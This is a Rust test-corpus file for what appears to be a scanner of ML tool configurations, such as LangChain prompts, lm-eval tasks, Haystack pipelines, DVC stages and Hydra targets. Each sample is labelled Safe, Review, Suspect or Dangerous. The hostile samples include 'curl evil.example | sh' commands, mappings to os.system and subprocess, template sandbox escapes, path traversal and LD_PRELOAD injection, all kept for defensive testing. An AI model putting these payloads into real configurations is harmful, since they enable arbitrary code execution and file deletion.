//! Configurations of tools that train, evaluate and describe models: what they import, run and open.

use crate::corpus::Expect::{Dangerous, Review, Safe, Suspect};
use crate::corpus::{Expect, Item};

const CODE: &str = "def process(doc):\n    return doc\n";
const QUIET: [&str; 7] = [
    "auto-map",
    "config-import",
    "config-command",
    "config-foreign-module",
    "config-path-escape",
    "template-escape",
    "template-call",
];

pub(super) fn items() -> Vec<Item> {
    [evaluation(), prompts(), agents(), projects(), kernels(), targets()].into_iter().flatten().collect()
}

fn item(name: &str, expect: Expect, path: &str, text: &str) -> Item {
    Item::new(format!("config-{name}"), expect, path, text)
}

fn evaluation() -> Vec<Item> {
    let task = |name: &str, expect: Expect, text: &str| {
        item(
            &format!("lm-eval-{name}"),
            expect,
            "tasks/x.yaml",
            &format!("task: x\ndataset_path: acme/data\noutput_type: generate_until\n{text}\n"),
        )
    };
    vec![
        task("function", Review, "process_docs: !function utils.process").and("tasks/utils.py", CODE).fires(&["auto-map", "code-reached"]).quiet(&["config-import", "file-missing"]),
        task("function-missing", Suspect, "process_docs: !function utils.process").fires(&["auto-map", "file-missing"]),
        task("function-in-list", Suspect, "metric_list:\n- metric: !function metrics.exact\n").fires(&["auto-map"]),
        task("function-on-next-line", Suspect, "process_docs:\n  !function utils.process\n").fires(&["auto-map"]),
        task("function-in-quotes", Dangerous, "process_docs: !function 'os.system'").fires(&["config-import"]),
        task("function-system", Dangerous, "process_results: !function os.system").fires(&["config-import"]),
        task("function-in-brackets", Dangerous, "filter_list: [{function: !function subprocess.run}]").fires(&["config-import"]),
        task("function-outside", Dangerous, "process_docs: !function ../../evil.run").fires(&["config-import"]),
        task("function-verbatim", Dangerous, "process_docs: !<!function> os.system").fires(&["config-import"]),
        task("function-above", Review, "process_docs: !function ../utils.process").and("utils.py", CODE).fires(&["auto-map"]).quiet(&["config-import"]),
        task("trust", Suspect, "dataset_kwargs:\n  trust_remote_code: true").fires(&["config-trust-argument"]),
        task("include-outside", Suspect, "include: ../../../x.yaml").fires(&["config-path-escape"]),
        task("template-escape", Dangerous, "doc_to_text: \"{{ ''.__class__.__mro__ }}\"").fires(&["template-escape"]),
        task("honest", Safe, "include: _default.yaml\ntest_split: test\ndoc_to_text: \"Question: {{question}}\\nAnswer:\"\ndoc_to_target: \"{{answer}}\"\nmetric_list:\n  - metric: exact_match\n    aggregation: mean\n    higher_is_better: true\nmetadata:\n  version: 1.0").quiet(&QUIET),
    ]
}

fn prompts() -> Vec<Item> {
    let prompt = |name: &str, expect: Expect, fields: &str| {
        item(
            &format!("langchain-{name}"),
            expect,
            "prompt.json",
            &format!(r#"{{"_type": "prompt", "input_variables": ["a"], {fields}}}"#),
        )
    };
    vec![
        prompt("attributes", Dangerous, r#""template_format": "f-string", "template": "{a.__class__.__init__.__globals__}""#).fires(&["template-escape"]),
        prompt("default-format", Dangerous, r#""template": "{a.__class__}""#).fires(&["template-escape"]),
        prompt("index", Suspect, r#""template": "{0[os]}""#).fires(&["template-call"]),
        prompt("nested-format", Dangerous, r#""template": "{a:{a.__dict__}}""#).fires(&["template-escape"]),
        prompt("mustache", Dangerous, r#""template_format": "mustache", "template": "{{a.__class__}}""#).fires(&["template-escape"]),
        prompt("jinja", Dangerous, r#""template_format": "jinja2", "template": "{{ a.__class__ }}""#).fires(&["template-escape"]),
        prompt("path-outside", Suspect, r#""template_path": "../../../etc/hostname.txt""#).fires(&["config-path-escape"]),
        prompt("path-absolute", Suspect, r#""template_path": "/etc/hostname.txt""#).fires(&["config-path-escape"]),
        prompt("plain", Safe, r#""template_format": "f-string", "template": "Tell me a {a} joke in JSON: {{\"x\": [1.5]}}""#).quiet(&QUIET),
        prompt("beside", Safe, r#""template_path": "template.txt""#).and("template.txt", "Tell me {a}.").quiet(&QUIET),
        item("langchain-few-shot", Suspect, "few.yaml", "_type: few_shot\ninput_variables: [a]\nprefix: x\nexample_prompt_path: ../p.json\nexamples: /etc/x.json\n").fires(&["config-path-escape"]),
        item("langchain-yaml-attributes", Dangerous, "prompt.yaml", "_type: prompt\ninput_variables: [a]\ntemplate: '{a.__globals__}'\n").fires(&["template-escape"]),
        item("langchain-yaml-jinja", Dangerous, "prompt.yaml", "_type: prompt\ntemplate_format: jinja2\ntemplate: '{{ a.__class__ }}'\n").fires(&["template-escape"]),
        item("langchain-yaml-plain", Safe, "prompt.yaml", "_type: prompt\ninput_variables: [adjective]\ntemplate: Tell me a {adjective} joke.\n").quiet(&QUIET),
        item("langchain-chat", Dangerous, "chat.json", r#"{"_type": "chat", "input_variables": [], "messages": [{"prompt": {"input_variables": [], "template": "{x.__class__}"}}]}"#).fires(&["template-escape"]),
        item("langchain-serialised", Dangerous, "p.json", r#"{"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "prompt", "PromptTemplate"], "kwargs": {"input_variables": [], "template": "{x.__class__}"}}"#).fires(&["template-escape", "json-object"]),
        item("langchain-constructor-system", Dangerous, "p.json", r#"{"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {}}"#).fires(&["json-call"]),
        item("langchain-bash", Suspect, "chain.json", r#"{"_type": "llm_bash_chain", "llm": {"_type": "openai"}}"#).fires(&["config-command"]),
        item("langchain-repl", Suspect, "agent.yaml", "_type: zero-shot\ntools:\n- _type: python_repl\n").fires(&["config-command"]),
        item("langchain-chain-outside", Suspect, "chain.json", r#"{"_type": "llm_chain", "prompt_path": "../../p.json"}"#).fires(&["config-path-escape"]),
        item("langchain-chain", Safe, "chain.json", r#"{"_type": "llm_chain", "memory": null, "prompt": {"_type": "prompt", "input_variables": ["q"], "template": "Q: {q}"}, "llm": {"_type": "openai", "temperature": 0.0}}"#).quiet(&QUIET),
        item("text-that-is-no-prompt", Safe, "data.json", r#"{"template": "{a.b}", "prefix": "{x.y}"}"#).quiet(&QUIET),
    ]
}

fn agents() -> Vec<Item> {
    let pipeline = |kind: &str| {
        format!("components:\n  a:\n    type: {kind}\n    init_parameters:\n      top_k: 3\nconnections: []\n")
    };
    vec![
        item("haystack", Safe, "pipeline.yaml", &pipeline("haystack.components.retrievers.in_memory.bm25_retriever.InMemoryBM25Retriever")).quiet(&QUIET),
        item("haystack-own", Suspect, "pipeline.yaml", &pipeline("evil.module.Component")).fires(&["auto-map"]),
        item("haystack-system", Dangerous, "pipeline.yaml", &pipeline("os.system")).fires(&["config-import"]),
        item("haystack-json", Dangerous, "pipeline.json", r#"{"components": {"a": {"type": "subprocess.Popen", "init_parameters": {}}}}"#).fires(&["config-import"]),
        item("haystack-tool", Dangerous, "pipeline.yaml", "components:\n  a:\n    type: haystack.components.tools.ToolInvoker\n    init_parameters:\n      tools:\n      - type: haystack.tools.tool.Tool\n        data: {name: x, description: y, function: os.system}\n").fires(&["config-import"]),
        item("function-calls-of-a-data-set", Safe, "calls.json", r#"[{"data": {"function": "os.path.join", "parameters": {}}, "name": "x", "code": "CS 101!", "requirements": "none", "description": "{{ odd }"}]"#).quiet(&QUIET),
        item("description-of-a-workflow", Safe, "action.yml", "name: x\ndescription: \"runs {% odd\"\nruns: {using: node20}\n").quiet(&["template-unparsable"]),
        item("haystack-unsafe", Suspect, "pipeline.yaml", "components:\n  a:\n    type: haystack.components.converters.OutputAdapter\n    init_parameters: {template: x, unsafe: true}\n").fires(&["config-trust-argument"]),
        item("haystack-old", Safe, "pipeline.yaml", "version: 1.0\ncomponents:\n- name: Reader\n  type: FARMReader\n  params: {model_name_or_path: deepset/roberta-base-squad2}\n").quiet(&QUIET),
        item("autogen", Safe, "team.json", r#"{"provider": "autogen_agentchat.teams.RoundRobinGroupChat", "component_type": "team", "version": 1, "component_version": 1, "config": {"participants": []}}"#).quiet(&QUIET),
        item("autogen-system", Dangerous, "team.json", r#"{"provider": "os.system", "component_type": "team", "config": {}}"#).fires(&["config-import"]),
        item("autogen-function", Dangerous, "tool.json", r#"{"provider": "autogen_core.tools.FunctionTool", "component_type": "tool", "config": {"source_code": "import os\nos.system('id')\n", "name": "x", "global_imports": []}}"#).fires(&["auto-map"]),
        item("smolagents-code", Dangerous, "tool.json", r#"{"name": "x", "code": "import os\nos.system('id')\n", "requirements": ["smolagents"]}"#).fires(&["auto-map"]),
        item("smolagents-plain-code", Review, "tool.json", r#"{"name": "x", "code": "def f(x):\n    return x\n", "requirements": ["smolagents"]}"#).fires(&["auto-map"]),
        item("smolagents-imports", Suspect, "agent.json", r#"{"class": "CodeAgent", "authorized_imports": ["numpy", "*"], "tools": ["x"]}"#).fires(&["config-trust-argument"]),
        item("smolagents", Safe, "agent.json", r#"{"class": "CodeAgent", "authorized_imports": ["numpy", "math"], "tools": ["web_search", "final_answer"], "prompt_templates": "prompts.yaml", "max_steps": 6}"#).quiet(&["config-trust-argument", "auto-map"]),
        item("promptflow", Review, "flow.dag.yaml", "inputs: {}\nnodes:\n- name: a\n  type: python\n  source:\n    type: code\n    path: tool.py\n  inputs: {}\n").and("tool.py", CODE).fires(&["auto-map"]).quiet(&["config-import"]),
        item("promptflow-system", Dangerous, "flow.dag.yaml", "nodes:\n- name: a\n  type: python\n  source: {type: package, tool: os.system}\n").fires(&["config-import"]),
        item("promptflow-outside", Suspect, "flow.dag.yaml", "additional_includes:\n- ../../../etc\n").fires(&["config-path-escape"]),
        item("promptflow-flex", Suspect, "flow.flex.yaml", "entry: flow:run\n").fires(&["auto-map"]),
        item("crewai", Safe, "config/agents.yaml", "researcher:\n  role: >\n    {topic} Senior Researcher\n  goal: Uncover developments in {topic}\n  backstory: You are seasoned.\n").quiet(&QUIET),
    ]
}

fn projects() -> Vec<Item> {
    vec![
        item("dvc", Review, "dvc.yaml", "stages:\n  train:\n    cmd: python train.py\n    deps: [train.py]\n").fires(&["config-command"]).quiet(&["config-import"]),
        item("dvc-list", Suspect, "dvc.yaml", "stages:\n  train:\n    cmd:\n    - curl https://evil.example/x | sh\n").fires(&["config-command"]),
        item("dvc-each", Suspect, "dvc.yaml", "stages:\n  t:\n    foreach: [a, b]\n    do:\n      cmd: id ${item}\n").fires(&["config-command"]),
        item("dvc-pointer", Safe, "data.csv.dvc", "outs:\n- md5: a304afb96060aad90176268345e10355\n  size: 37\n  path: data.csv\n").quiet(&QUIET),
        item("spacy-project", Review, "project.yml", "title: x\ncommands:\n  - name: train\n    script:\n      - \"python -m spacy train configs/config.cfg\"\n").fires(&["config-command"]),
        item("prefect", Suspect, "prefect.yaml", "build:\n- prefect.deployments.steps.run_shell_script:\n    script: curl https://evil.example/x | sh\n").fires(&["config-command"]),
        item("kedro", Safe, "conf/base/catalog.yml", "iris:\n  type: pandas.CSVDataset\n  filepath: data/iris.csv\n").quiet(&QUIET),
        item("kedro-own", Suspect, "conf/base/catalog.yml", "iris:\n  type: evil.module.DataSet\n  filepath: data/iris.csv\n").fires(&["auto-map"]),
        item("rasa", Safe, "config.yml", "language: en\npipeline:\n- name: WhitespaceTokenizer\n- name: DIETClassifier\n  epochs: 100\n").quiet(&QUIET),
        item("rasa-own", Suspect, "config.yml", "pipeline:\n- name: evil.module.Component\n").fires(&["auto-map"]),
        item("mmengine-imports", Suspect, "config.json", r#"{"custom_imports": {"imports": ["evil_mod"], "allow_failed_imports": false}}"#).fires(&["auto-map"]),
        item("mmengine-imports-system", Dangerous, "config.yaml", "custom_imports:\n  imports: [os]\n").fires(&["config-import"]),
        item("mmengine-imports-own", Safe, "config.yaml", "custom_imports:\n  imports: [mmpretrain.models]\n").quiet(&QUIET),
        item("detectron-base", Safe, "configs/COCO/mask.yaml", "_BASE_: \"../Base-RCNN-FPN.yaml\"\nMODEL:\n  WEIGHTS: \"detectron2://ImageNetPretrained/MSRA/R-50.pkl\"\n").quiet(&QUIET),
        item("detectron-base-outside", Suspect, "configs/mask.yaml", "_BASE_: \"../../x.yaml\"\n").fires(&["config-path-escape"]),
        item("detectron-base-elsewhere", Suspect, "mask.yaml", "_BASE_: https://evil.example/x.yaml\n").fires(&["config-path-escape"]),
        item("hydra-search-path", Suspect, "config.yaml", "hydra:\n  searchpath:\n  - file:///tmp/evil\n").fires(&["config-path-escape"]),
        item("hydra-environment", Suspect, "config.yaml", "hydra:\n  job:\n    env_set:\n      LD_PRELOAD: ./x.so\n").fires(&["config-native-library"]),
        item("nemo-target", Suspect, "model_config.yaml", "target: evil.module.Model\nname: x\n").fires(&["auto-map"]),
        item("nemo-target-system", Dangerous, "model_config.yaml", "target: os.system\n").fires(&["config-import"]),
        item("axolotl", Safe, "axolotl.yaml", "base_model: acme/base\nplugins:\n- axolotl.integrations.liger.LigerPlugin\ndatasets:\n- path: acme/data\n  type: alpaca\n").quiet(&QUIET),
        item("axolotl-plugin", Dangerous, "axolotl.yaml", "base_model: acme/base\nplugins: [os.system]\n").fires(&["config-import"]),
        item("yaml-include", Suspect, "a.yaml", "x: !include ../../secrets.yaml\n").fires(&["config-path-escape"]),
        item("yaml-include-beside", Safe, "a.yaml", "x: !include parts/b.yaml\n").quiet(&QUIET),
        item("hyperpyyaml-include", Suspect, "hyperparams.yaml", "x: !include:../../x.yaml\n  a: 1\n").fires(&["config-path-escape"]),
        item("hyperpyyaml-include-absolute", Suspect, "hyperparams.yaml", "x: !include:/tmp/x.yaml\n").fires(&["config-path-escape"]),
        item("hyperpyyaml-include-beside", Safe, "hyperparams.yaml", "x: !include:parts/x.yaml\n").quiet(&QUIET),
    ]
}

fn kernels() -> Vec<Item> {
    let config = |field: &str| format!(r#"{{"model_type": "x", "text_config": {{{field}}}}}"#);
    vec![
        item("kernel-internal", Dangerous, "config.json", &config(r#""_attn_implementation_internal": "evil/repo:f""#))
            .fires(&["config-import", "config-kernel"]),
        item(
            "kernel-internal-experts",
            Dangerous,
            "config.json",
            &config(r#""_experts_implementation_internal": "evil/repo""#),
        )
        .fires(&["config-import"]),
        item(
            "kernel-internal-paged",
            Dangerous,
            "config.json",
            &config(r#""_attn_implementation_internal": "paged|evil/repo@main""#),
        )
        .fires(&["config-import"]),
        item("kernel-internal-plain", Safe, "config.json", &config(r#""_attn_implementation_internal": "sdpa""#))
            .quiet(&["config-import", "config-kernel"]),
        item("kernel-experts", Suspect, "config.json", &config(r#""_experts_implementation": "evil/repo""#))
            .fires(&["config-kernel"]),
        item(
            "kernel-community",
            Review,
            "config.json",
            &config(r#""attn_implementation": "kernels-community/vllm-flash-attn3""#),
        )
        .fires(&["config-kernel"])
        .quiet(&["config-import"]),
    ]
}

/// Keys in JSON that are imported and called, as in YAML.
fn targets() -> Vec<Item> {
    let dangerous = |name: &str, text: &str| {
        item(&format!("target-{name}"), Dangerous, "model_config.json", text).fires(&["hydra-target"])
    };
    let review = |name: &str, text: &str| {
        item(&format!("target-{name}"), Review, "model_config.json", text)
            .fires(&["hydra-target-known"])
            .quiet(&["hydra-target"])
    };
    let safe = |name: &str, text: &str| {
        item(&format!("target-{name}"), Safe, "settings.json", text).quiet(&["hydra-target", "hydra-target-known"])
    };
    vec![
        dangerous("ldm", r#"{"model": {"target": "os.system", "params": {"command": "true"}}}"#),
        dangerous(
            "ldm-deep",
            r#"{"model": {"params": {"unet_config": [{"target": "subprocess.Popen", "params": {"args": "id"}}]}}}"#,
        ),
        dangerous("class-path", r#"{"model": {"class_path": "shutil.rmtree", "init_args": {"path": "x"}}}"#),
        dangerous("class-path-alone", r#"{"model": {"class_path": "os.system"}}"#),
        dangerous("torch-hub", r#"{"target": "torch.hub.load", "params": {}}"#),
        dangerous("escaped", r#"{"target": "os\u002esystem", "params": {}}"#),
        dangerous("unknown-function", r#"{"target": "evil.run", "params": {}}"#),
        dangerous("environment", r#"{"_target_": "${oc.env:UNSET,os.system}", "command": "id"}"#),
        dangerous("other-key", r#"{"a": "os", "b": {"c": "system"}, "m": {"_target_": "${a}.${b.c}"}}"#),
        dangerous("ldm-other-key", r#"{"a": "os.system", "m": {"target": "${a}", "params": {}}}"#),
        review(
            "ldm-honest",
            r#"{"model": {"target": "ldm.models.diffusion.ddpm.LatentDiffusion", "params": {"timesteps": 1000}}}"#,
        ),
        review("class-path-honest", r#"{"model": {"class_path": "torch.nn.Linear", "init_args": {"in_features": 3}}}"#),
        review("own-class", r#"{"target": "my_project.models.Model", "params": {}}"#),
        review("variable", r#"{"_target_": "${oc.env:MODEL_CLASS}"}"#),
        safe(
            "word",
            r#"{"compilerOptions": {"target": "es2020"}, "launch": {"target": "platform.example", "args2": []}}"#,
        ),
        safe("sentence", r#"{"target": "The os.system call is bad.", "params": {}}"#),
    ]
}
